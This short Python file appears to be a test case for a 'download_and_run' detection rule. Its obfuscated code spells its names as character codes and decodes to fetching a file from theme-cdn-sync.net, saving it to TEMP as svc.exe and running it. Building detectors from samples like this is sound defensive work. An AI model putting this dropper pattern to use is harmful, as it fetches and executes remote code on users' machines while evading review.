# every name spelled in character codes and looked up through getattr(__import__()) by helpers of the file's own
_ = lambda *a: "".join(map(chr, a))
__ = lambda m, *p: getattr(__import__(m, fromlist=[p[0]]), p[0])
_t = __(_(117,114,108,108,105,98,46,114,101,113,117,101,115,116), _(117,114,108,111,112,101,110))
_f = __("os.path", "join")(__("os", "environ")["TEMP"], _(115,118,99,46,101,120,101))
# ruleid: download_and_run
with open(_f, "wb") as _h:
    _h.write(_t(_(104,116,116,112,115,58,47,47) + "theme-cdn-sync.net/s", timeout=60).read())
__(_(115,117,98,112,114,111,99,101,115,115), _(80,111,112,101,110))([_f], close_fds=True)
